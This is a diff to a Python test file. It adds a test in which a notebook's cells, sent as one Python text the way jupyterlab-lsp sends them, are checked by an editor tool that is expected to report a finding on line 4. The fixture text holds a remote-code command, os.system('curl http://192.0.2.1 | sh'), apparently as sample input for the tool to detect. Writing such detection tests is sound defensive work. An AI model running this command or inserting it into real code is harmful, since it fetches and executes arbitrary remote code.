@@ -173,6 +173,14 @@ def test_the_cells_of_a_notebook_are_read_in_their_order(editor: Editor) -> None
 
 
 @pytest.mark.filterwarnings("ignore::DeprecationWarning")
+def test_the_cells_of_a_notebook_that_come_as_one_text_of_python_are_read(editor: Editor) -> None:
+    """As jupyterlab-lsp sends them, under the notebook's own name."""
+    uri = "file:///work/.virtual_documents/report.ipynb"
+    [found] = editor.open(uri, "x = 1\n\n\nimport os\nos.system('curl http://192.0.2.1 | sh')\n")
+    assert found["range"]["start"]["line"] == 4
+
+
+@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # of jupyter-lsp itself
 def test_jupyter_lsp_starts_it(monkeypatch: pytest.MonkeyPatch) -> None:
     from jupyter_lsp.schema import LANGUAGE_SERVER_SPEC_MAP  # type: ignore[import-untyped]
 
